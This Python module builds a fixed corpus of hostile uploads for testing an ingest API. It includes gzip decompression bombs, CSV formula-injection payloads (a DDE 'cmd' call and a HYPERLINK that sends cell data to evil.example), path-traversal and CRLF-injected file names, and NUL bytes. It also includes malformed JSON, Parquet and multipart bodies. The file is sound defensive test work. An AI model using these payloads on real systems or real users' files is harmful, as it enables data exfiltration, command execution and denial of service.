"""A corpus of hostile uploads for the ingest API, generated in code.

Every file is deterministic (fixed seeds, fixed gzip mtime) and built lazily: a case holds a builder, and
the bytes exist only while the case is being sent. Nothing here is larger than ~12 MB on the wire; the
decompression bombs expand to 1 GiB but are compressed as a stream, so 1 GiB is never held in memory.

Every accepted case carries its own transaction ids (``HF-<case>-NNNN``), so no two cases share content
(the ingest answers the same content with the earlier batch) and no case touches another test's facts.
What each case is expected to do lives in ``tests/e2e/test_hostile_files.py``.
"""

from __future__ import annotations

import csv
import gzip
import io
import json
import random
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from decimal import Decimal

import pyarrow as pa
import pyarrow.parquet as pq

from shared.datasets import CONTRACTS, PAYMENT_METHODS, Dataset

SALES_COLUMNS: tuple[str, ...] = CONTRACTS[Dataset.sales].column_names
CUSTOMER_COLUMNS: tuple[str, ...] = CONTRACTS[Dataset.customers].column_names
HEADER = ",".join(SALES_COLUMNS)
MIB = 1024 * 1024
BOUNDARY = "hostile-corpus-boundary-5f0c"

# Formula-injection payloads, stored verbatim (no quote prefix, no escaping) in raw and staging.
FORMULAS: dict[str, str] = {
    "cmd": "=cmd|' /C calc'!A0",
    "sum": "+SUM(1)",
    "at": "@foo",
    "minus": "-2+3",
    "hyperlink": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
}

Envelope = Callable[[bytes], tuple[bytes, str]]


@dataclass(frozen=True)
class HostileFile:
    """One upload: the file's bytes (built on demand) and how the request carries them."""

    name: str
    build: Callable[[], bytes]
    content_type: str = "text/csv"
    # Sent as X-File-Name (None: no header).
    file_name: str | None = "sales.csv"
    # Query parameters, for a file name that no HTTP header can carry (NUL, CR/LF).
    query: tuple[tuple[str, str], ...] = ()
    # The {dataset} path segment, sent as is.
    dataset: str = "sales"
    # A request target sent verbatim, bypassing the client's URL normalisation (``..`` segments).
    raw_target: str | None = None
    # Wraps the file into a multipart body: (body, Content-Type). None: the file is the raw body.
    envelope: Envelope | None = None

    def request(self) -> tuple[bytes, bytes, dict[str, str]]:
        """(the file's bytes, the HTTP body, the headers) of this case."""
        payload = self.build()
        if self.envelope is not None:
            body, content_type = self.envelope(payload)
            return payload, body, {"Content-Type": content_type}
        headers = {"Content-Type": self.content_type}
        if self.file_name is not None:
            headers["X-File-Name"] = self.file_name
        return payload, payload, headers


# --- building blocks ---------------------------------------------------------------------------------------


def tx_id(case: str, i: int) -> str:
    return f"HF-{case}-{i:04d}"


def sales_record(case: str, i: int) -> dict[str, str]:
    """A valid sales record (February 2020, far from other tests' dates)."""
    quantity = 1 + i % 4
    price = Decimal(5 + i % 10) + Decimal("0.50")
    return {
        "transaction_id": tx_id(case, i),
        "transaction_ts": f"2020-02-{1 + i % 28:02d}T{i % 24:02d}:15:00Z",
        "customer_id": f"HC-{i % 7}",
        "product_id": f"HP-{i % 5}",
        "quantity": str(quantity),
        "unit_price": f"{price:.2f}",
        "total_amount": f"{quantity * price:.2f}",
        "payment_method": PAYMENT_METHODS[i % len(PAYMENT_METHODS)],
        "status": "completed",
    }


def sales_rows(case: str, n: int, start: int = 1) -> list[list[str]]:
    return [list(sales_record(case, i).values()) for i in range(start, start + n)]


def csv_text(rows: Sequence[Sequence[str]], header: Sequence[str] = SALES_COLUMNS, *, newline: str = "\n") -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=newline)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def csv_bytes(rows: Sequence[Sequence[str]], header: Sequence[str] = SALES_COLUMNS) -> bytes:
    return csv_text(rows, header).encode()


def valid_csv(case: str, n: int = 3) -> bytes:
    return csv_bytes(sales_rows(case, n))


def seeded_bytes(seed: int, size: int) -> bytes:
    return random.Random(seed).randbytes(size)


def gz(data: bytes) -> bytes:
    return gzip.compress(data, mtime=0)


def parquet_bytes(columns: dict[str, list[str | None]], **options: object) -> bytes:
    sink = io.BytesIO()
    pq.write_table(pa.table(columns), sink, **options)  # type: ignore[arg-type]
    return sink.getvalue()


def sales_parquet(case: str, n: int = 20, **options: object) -> bytes:
    rows = [sales_record(case, i) for i in range(1, n + 1)]
    return parquet_bytes({c: [r[c] for r in rows] for c in SALES_COLUMNS}, **options)


def multipart(*parts: bytes, boundary: str = BOUNDARY) -> bytes:
    return b"".join(f"--{boundary}\r\n".encode() + part + b"\r\n" for part in parts) + f"--{boundary}--\r\n".encode()


def form_part(name: str, content: bytes, *, filename: str | None = None, content_type: str | None = None) -> bytes:
    disposition = f'form-data; name="{name}"' + (f'; filename="{filename}"' if filename is not None else "")
    head = f"Content-Disposition: {disposition}\r\n"
    if content_type:
        head += f"Content-Type: {content_type}\r\n"
    return head.encode() + b"\r\n" + content


def multipart_file(filename: str, *, field: str = "file", content_type: str = "text/csv") -> Envelope:
    def wrap(payload: bytes) -> tuple[bytes, str]:
        body = multipart(form_part(field, payload, filename=filename, content_type=content_type))
        return body, f"multipart/form-data; boundary={BOUNDARY}"

    return wrap


# --- the larger files ---------------------------------------------------------------------------------------


def gzip_bomb(header: bytes, plain_size: int = 1024 * MIB) -> bytes:
    """One gzip stream: ``header`` then ``plain_size`` zero bytes, compressed 1 MiB at a time (~1 MB out)."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    zeros = bytes(MIB)
    out = [deflate.compress(header)]
    out += [deflate.compress(zeros) for _ in range(plain_size // MIB)]
    out.append(deflate.flush())
    return b"".join(out)


def gzip_bomb_members(header: bytes, members: int = 1024) -> bytes:
    """Concatenated gzip members (valid gzip): the header, then ``members`` members of 1 MiB of zeros each."""
    zeros = gz(bytes(MIB))
    return gz(header) + zeros * members


def big_field(seed: int, size: int = 10 * MIB) -> str:
    """``size`` characters of hex text, without commas, quotes or newlines, that compresses poorly."""
    return seeded_bytes(seed, size // 2).hex()


def latin1_after_head(case: str) -> bytes:
    """A UTF-8-clean first 2 MiB (more than the ingest reads ahead), then one Latin-1 encoded row."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(SALES_COLUMNS)
    i = 0
    while out.tell() < 2 * MIB:
        i += 1
        writer.writerow(sales_record(case, i).values())
    record = sales_record(case, i + 1) | {"customer_id": "CLIENTE-JOSÉ-SÃO-PAULO"}
    return out.getvalue().encode() + (",".join(record.values()) + "\n").encode("latin-1")


def wide_csv(case: str, extra: int, rows: int = 5) -> bytes:
    """``extra`` non-contract columns first, the contract's columns last."""
    header = [f"x{i:05d}" for i in range(extra)] + list(SALES_COLUMNS)
    body = [["1"] * extra + row for row in sales_rows(case, rows)]
    return csv_bytes(body, header)


def corrupt_parquet_page(case: str) -> bytes:
    """A Parquet file with an intact footer whose first data page header is overwritten."""
    data = bytearray(sales_parquet(case, 30, use_dictionary=False, compression="snappy"))
    meta = pq.read_metadata(pa.BufferReader(bytes(data)))
    offset = meta.row_group(0).column(0).data_page_offset
    data[offset : offset + 24] = b"\xff" * 24
    return bytes(data)


def truncated_parquet(case: str) -> bytes:
    data = sales_parquet(case, 50)
    return data[: len(data) // 2]


def garbage_footer_parquet() -> bytes:
    junk = seeded_bytes(41, 2048)
    footer = seeded_bytes(42, 300)
    return b"PAR1" + junk + footer + len(footer).to_bytes(4, "little") + b"PAR1"


# --- text shapes ----------------------------------------------------------------------------------------------


def with_line(case: str, n: int, at: int, line: str, *, newline: str = "\n") -> bytes:
    """A header and ``n`` valid rows, with data row ``at`` (1-based) replaced by ``line`` verbatim."""
    lines = [HEADER] + [",".join(r) for r in sales_rows(case, n)]
    lines[at] = line
    return (newline.join(lines) + newline).encode()


def ragged_rows(case: str) -> bytes:
    """30 rows; data row 9 (file line 10) lacks its last three fields, row 19 (line 20) has a surplus one."""
    rows = sales_rows(case, 30)
    rows[8] = rows[8][:6]
    rows[18] = [*rows[18], "SURPLUS"]
    return csv_bytes(rows)


def unbalanced_quote(case: str) -> bytes:
    """30 rows; data row 15 (file line 16) opens a quote in customer_id that is never closed."""
    lines = [HEADER] + [",".join(r) for r in sales_rows(case, 30)]
    fields = lines[15].split(",")
    fields[2] = '"' + fields[2]
    lines[15] = ",".join(fields)
    return ("\n".join(lines) + "\n").encode()


def crlf_mixed(case: str) -> bytes:
    lines = [HEADER] + [",".join(r) for r in sales_rows(case, 20)]
    return b"".join((line + ("\r\n" if i % 2 == 0 else "\n")).encode() for i, line in enumerate(lines))


def bom_spaced_header(case: str) -> bytes:
    header = ",".join(f"  {c} \t" if i % 2 else f" {c}" for i, c in enumerate(SALES_COLUMNS))
    rows = [",".join(r) for r in sales_rows(case, 10)]
    return "\ufeff".encode() + ("\n".join([header, *rows]) + "\n").encode()


def blank_lines(case: str) -> bytes:
    """Header, 10 rows, 2 blank lines, 10 rows; the row on file line 20 has an invalid quantity."""
    rows = [",".join(r) for r in sales_rows(case, 20)]
    bad = rows[17].split(",")
    bad[4] = "lots"
    rows[17] = ",".join(bad)
    return ("\n".join([HEADER, *rows[:10], "", "", *rows[10:]]) + "\n").encode()


def quoted_newline(case: str) -> bytes:
    """20 rows; row 4 holds a quoted newline (file lines 5-6); row 10, on file line 12, has an invalid quantity."""
    rows = sales_rows(case, 20)
    rows[3][2] = "HC-\n3"
    rows[9][4] = "lots"
    return csv_bytes(rows)


def ndjson(case: str, n: int, broken_at: int | None = None, blank_before: bool = False) -> bytes:
    """``n`` NDJSON lines; line ``broken_at`` (1-based) is cut mid-record; optionally a blank line before it."""
    lines = [json.dumps(sales_record(case, i)) for i in range(1, n + 1)]
    if broken_at is not None:
        lines[broken_at - 1] = lines[broken_at - 1][:40]
        if blank_before:
            lines.insert(broken_at - 1, "")
    return ("\n".join(lines) + "\n").encode()


# Records before the deep one: past the first MiB, which is all the ingest reads of a file.
DEEP_AFTER = 5000


def deep_record(case: str, depth: int = 100_000) -> str:
    """A sales record with a value nested ``depth`` levels deep, written without recursion."""
    head = json.dumps(sales_record(case, 0))[:-1]
    return f'{head}, "x": {"[" * depth}{"]" * depth}}}'


def deep_past_head(case: str, *, array: bool, depth: int) -> bytes:
    """DEEP_AFTER records, one with a value nested ``depth`` deep (record DEEP_AFTER + 1), one more: NDJSON or
    a JSON array."""
    records = [json.dumps(sales_record(case, i)) for i in range(1, DEEP_AFTER + 1)]
    records += [deep_record(case, depth), json.dumps(sales_record(case, DEEP_AFTER + 1))]
    return ("[" + ",\n".join(records) + "]\n" if array else "\n".join(records) + "\n").encode()


def formula_rows(case: str) -> bytes:
    rows = sales_rows(case, 5)
    rows[0][2] = FORMULAS["cmd"]
    rows[1][2], rows[1][3] = FORMULAS["sum"], FORMULAS["at"]
    rows[2][2] = FORMULAS["minus"]
    rows[3][3] = FORMULAS["hyperlink"]
    rows[4][0] = "=" + rows[4][0] + "+1"
    return csv_bytes(rows)


def nul_rows(case: str) -> bytes:
    """30 rows: a NUL inside customer_id (file line 7) and inside quantity (file line 12)."""
    rows = sales_rows(case, 30)
    rows[5][2] = "HC-\x00-5"
    rows[10][4] = "1\x002"
    return csv_bytes(rows)


def nul_row_start(case: str) -> bytes:
    """30 rows; the row on file line 11 starts with a NUL byte."""
    rows = sales_rows(case, 30)
    rows[9][0] = "\x00" + rows[9][0]
    return csv_bytes(rows)


def invalid_quantities(case: str) -> bytes:
    rows = sales_rows(case, 20)
    for row in rows:
        row[4] = "many"
    return csv_bytes(rows)


def missing_timestamps(case: str) -> bytes:
    """20 rows, 2 of them (lines 6 and 16) with an empty transaction_ts: 10% nulls in a required column."""
    rows = sales_rows(case, 20)
    rows[4][1] = ""
    rows[14][1] = ""
    return csv_bytes(rows)


def timestamps_at_year_edges(case: str) -> bytes:
    """30 rows; transaction_ts is year 0 in UTC on file line 8 and year 10000 on line 20, the first instant of
    year 1 in UTC on line 14 (all three plausible ISO 8601 text)."""
    rows = sales_rows(case, 30)
    rows[6][1] = "0001-01-01T00:00:00+14:00"
    rows[12][1] = "0001-01-01T14:00:00+14:00"
    rows[18][1] = "9999-12-31T23:59:59-14:00"
    return csv_bytes(rows)


def ten_mb_field(case: str, column: str) -> bytes:
    """3 rows; row 2 (file line 3) holds a 10 MiB value in ``column`` (``memo``: an extra column)."""
    header = [*SALES_COLUMNS, "memo"] if column == "memo" else list(SALES_COLUMNS)
    rows = [[*r, "short"] if column == "memo" else r for r in sales_rows(case, 3)]
    rows[1][header.index(column)] = big_field(len(case))
    return csv_bytes(rows, header)


def json_records(case: str, n: int) -> list[dict[str, str]]:
    return [sales_record(case, i) for i in range(1, n + 1)]


def customers_csv() -> bytes:
    row = ["HCUST-1", "Ana", "ana@example.com", "Recife", "PE", "BR", "true", "2020-01-01T00:00:00Z"]
    return csv_bytes([row], CUSTOMER_COLUMNS)


def two_mb_header() -> bytes:
    extra = ",".join(f"col_{i:06d}" for i in range(2 * MIB // 11 + 1))
    return f"{HEADER},{extra}".encode()


def multipart_without_file(payload: bytes) -> tuple[bytes, str]:
    body = multipart(form_part("upload", payload, filename="sales.csv", content_type="text/csv"))
    return body, f"multipart/form-data; boundary={BOUNDARY}"


def multipart_file_as_text(payload: bytes) -> tuple[bytes, str]:
    return multipart(form_part("file", payload)), f"multipart/form-data; boundary={BOUNDARY}"


def multipart_two_files(payload: bytes) -> tuple[bytes, str]:
    parts = [form_part("file", payload, filename=f"part{i}.csv", content_type="text/csv") for i in (1, 2)]
    return multipart(*parts), f"multipart/form-data; boundary={BOUNDARY}"


def multipart_no_boundary(payload: bytes) -> tuple[bytes, str]:
    return multipart(form_part("file", payload, filename="sales.csv", content_type="text/csv")), "multipart/form-data"


# --- the corpus -----------------------------------------------------------------------------------------------


def _cases() -> list[HostileFile]:
    c = HostileFile
    pq_ct = "application/vnd.apache.parquet"
    return [
        # Unreadable, undecodable or unsupported bytes.
        c("empty-body", lambda: b""),
        c("binary-garbage", lambda: seeded_bytes(1, 64 * 1024), "application/octet-stream", "dump.bin"),
        c("png-declared-png", lambda: b"\x89PNG\r\n\x1a\n" + seeded_bytes(2, 4096), "image/png", "chart.png"),
        c("png-declared-csv", lambda: b"\x89PNG\r\n\x1a\n" + seeded_bytes(3, 4096)),
        c("utf16-csv", lambda: csv_text(sales_rows("utf16-csv", 5)).encode("utf-16"), "text/csv; charset=utf-16"),
        c("latin1-csv", lambda: csv_text(sales_rows("latin1-csv", 5)).replace("HC-3", "JOSÉ-Ç").encode("latin-1")),
        c("latin1-after-head", lambda: latin1_after_head("latin1-after-head")),
        c("xml-declared-xml", lambda: b"<sales><sale id='1'/></sales>", "application/xml", "sales.xml"),
        # Compression.
        c("gzip-truncated", lambda: gz(valid_csv("gzip-truncated", 400))[:2500], "application/gzip", "sales.csv.gz"),
        c("gzip-of-garbage", lambda: gz(seeded_bytes(4, 32 * 1024)), "application/gzip", "sales.csv.gz"),
        c("gzip-magic-then-garbage", lambda: b"\x1f\x8b\x08\x00" + seeded_bytes(5, 8192)),
        c("gzip-bomb", lambda: gzip_bomb(HEADER.encode() + b"\n"), "text/csv", "sales.csv.gz"),
        c("gzip-bomb-members", lambda: gzip_bomb_members(HEADER.encode() + b"\n"), "text/csv", "sales.csv.gz"),
        c("gzip-parquet", lambda: gz(sales_parquet("gzip-parquet")), "application/octet-stream", "s.parquet.gz"),
        # Headers.
        c("header-only", lambda: (HEADER + "\n").encode()),
        c("header-only-no-newline", lambda: HEADER.encode()),
        c("header-2mb-no-newline", two_mb_header),
        c("header-bom-and-spaces", lambda: bom_spaced_header("header-bom-and-spaces")),
        c("header-of-customers", customers_csv),
        c(
            "duplicate-contract-column",
            lambda: csv_bytes([[*r, "pending"] for r in sales_rows("dup-c", 3)], [*SALES_COLUMNS, "status"]),
        ),
        c(
            "duplicate-column-after-trim",
            lambda: csv_bytes([[*r, "pending"] for r in sales_rows("dup-t", 3)], [*SALES_COLUMNS, " status "]),
        ),
        c(
            "duplicate-extra-column",
            lambda: csv_bytes([[*r, "a", "b"] for r in sales_rows("dup-x", 10)], [*SALES_COLUMNS, "note", "note"]),
        ),
        c(
            "contract-column-in-other-case",
            lambda: csv_bytes([[*r, "refunded"] for r in sales_rows("case", 10)], [*SALES_COLUMNS, "STATUS"]),
        ),
        c("columns-5000", lambda: wide_csv("columns-5000", 4991)),
        c("columns-25000", lambda: wide_csv("columns-25000", 24991)),
        # Sizes.
        c("field-10mb-extra-column", lambda: ten_mb_field("field-10mb-extra-column", "memo")),
        c("field-10mb-transaction-id", lambda: ten_mb_field("field-10mb-transaction-id", "transaction_id")),
        c("field-10mb-customer-id", lambda: ten_mb_field("field-10mb-customer-id", "customer_id")),
        # File names.
        c("name-dotdot-posix", lambda: valid_csv("name-dotdot-posix"), file_name="../../etc/passwd"),
        c("name-dotdot-windows", lambda: valid_csv("name-dotdot-windows"), file_name="..\\..\\x.csv"),
        c("name-absolute-posix", lambda: valid_csv("name-absolute-posix"), file_name="/etc/cron.d/sales.csv"),
        c("name-absolute-windows", lambda: valid_csv("name-absolute-windows"), file_name="C:\\Windows\\evil.csv"),
        c("name-only-dots", lambda: valid_csv("name-only-dots"), file_name=".."),
        c("name-very-long", lambda: valid_csv("name-very-long"), file_name="a" * 5000 + ".csv"),
        c(
            "name-with-nul",
            lambda: valid_csv("name-with-nul"),
            file_name=None,
            query=(("filename", "sales\x00.csv/../../../etc/passwd"),),
        ),
        c(
            "name-with-newline",
            lambda: valid_csv("name-with-newline"),
            file_name=None,
            query=(("filename", "sales\r\nX-Injected: 1.csv"),),
        ),
        c(
            "name-multipart-traversal",
            lambda: valid_csv("name-multipart-traversal"),
            envelope=multipart_file("../../../etc/cron.d/evil.csv"),
        ),
        # Cell contents.
        c("formula-injection", lambda: formula_rows("formula-injection")),
        c("nul-inside-fields", lambda: nul_rows("nul-inside-fields")),
        c("nul-at-row-start", lambda: nul_row_start("nul-at-row-start")),
        c("all-rows-invalid", lambda: invalid_quantities("all-rows-invalid")),
        c("required-column-nulls", lambda: missing_timestamps("required-column-nulls")),
        c("timestamps-at-year-edges", lambda: timestamps_at_year_edges("timestamps-at-year-edges")),
        # CSV structure.
        c("ragged-rows", lambda: ragged_rows("ragged-rows")),
        c("unbalanced-quote", lambda: unbalanced_quote("unbalanced-quote")),
        c("crlf-mixed-with-lf", lambda: crlf_mixed("crlf-mixed-with-lf")),
        c("csv-bare-cr", lambda: valid_csv("csv-bare-cr").replace(b"\n", b"\r")),
        c("blank-lines", lambda: blank_lines("blank-lines")),
        c("quoted-newline", lambda: quoted_newline("quoted-newline")),
        # Declared type against content.
        c("json-declared-csv", lambda: json.dumps(json_records("json-as-csv", 3), indent=1).encode()),
        c("csv-declared-json", lambda: valid_csv("csv-as-json"), "application/json", "sales.json"),
        c("parquet-declared-csv", lambda: sales_parquet("parquet-as-csv")),
        # JSON shapes.
        c(
            "json-object-wrapper",
            lambda: json.dumps({"records": json_records("json-wrap", 3)}).encode(),
            "application/json",
            "sales.json",
        ),
        c(
            "json-object-pretty",
            lambda: json.dumps(sales_record("json-pretty", 1), indent=2).encode(),
            "application/json",
            "sale.json",
        ),
        c("json-array-of-scalars", lambda: b"[1, 2, 3]", "application/json", "sales.json"),
        c(
            "json-array-of-arrays",
            lambda: json.dumps([list(SALES_COLUMNS), *sales_rows("json-aa", 2)]).encode(),
            "application/json",
            "sales.json",
        ),
        c(
            "json-array-mixed",
            lambda: json.dumps([*json_records("json-mixed", 20), 42]).encode(),
            "application/json",
            "sales.json",
        ),
        c(
            "ndjson-broken-line",
            lambda: ndjson("ndjson-broken-line", 30, broken_at=15),
            "application/x-ndjson",
            "sales.ndjson",
        ),
        c(
            "ndjson-blank-line",
            lambda: ndjson("ndjson-blank-line", 30, broken_at=15, blank_before=True),
            "application/x-ndjson",
            "sales.ndjson",
        ),
        c("json-deep-first", lambda: f"[{deep_record('json-deep-first')}]".encode(), "application/json", "sales.json"),
        c(
            "ndjson-deep-past-head",
            lambda: deep_past_head("ndjson-deep", array=False, depth=64),
            "application/x-ndjson",
            "sales.ndjson",
        ),
        c(
            "json-deep-past-head",
            lambda: deep_past_head("json-deep", array=True, depth=100_000),
            "application/json",
            "sales.json",
        ),
        # Parquet.
        c("parquet-truncated", lambda: truncated_parquet("parquet-truncated"), pq_ct, "sales.parquet"),
        c("parquet-garbage-footer", garbage_footer_parquet, pq_ct, "sales.parquet"),
        c(
            "parquet-wrong-columns",
            lambda: parquet_bytes({"order": ["1"], "when": ["2020-01-01"]}),
            pq_ct,
            "sales.parquet",
        ),
        c("parquet-corrupt-page", lambda: corrupt_parquet_page("parquet-corrupt-page"), pq_ct, "sales.parquet"),
        # Routing.
        c("dataset-dotdot", lambda: valid_csv("dataset-dotdot"), raw_target="/v1/datasets/../files"),
        c("dataset-dotdot-encoded", lambda: valid_csv("dataset-dotdot-encoded"), dataset="%2E%2E"),
        c("dataset-uppercase", lambda: valid_csv("dataset-uppercase"), dataset="SALES"),
        # Multipart.
        c("multipart-without-file-field", lambda: valid_csv("mp-no-file"), envelope=multipart_without_file),
        c("multipart-file-as-text-field", lambda: valid_csv("mp-text"), envelope=multipart_file_as_text),
        c("multipart-two-files", lambda: valid_csv("mp-two"), envelope=multipart_two_files),
        c("multipart-without-boundary", lambda: valid_csv("mp-no-boundary"), envelope=multipart_no_boundary),
    ]


CASES: tuple[HostileFile, ...] = tuple(_cases())
BY_NAME: dict[str, HostileFile] = {case.name: case for case in CASES}
assert len(BY_NAME) == len(CASES), "case names must be unique"
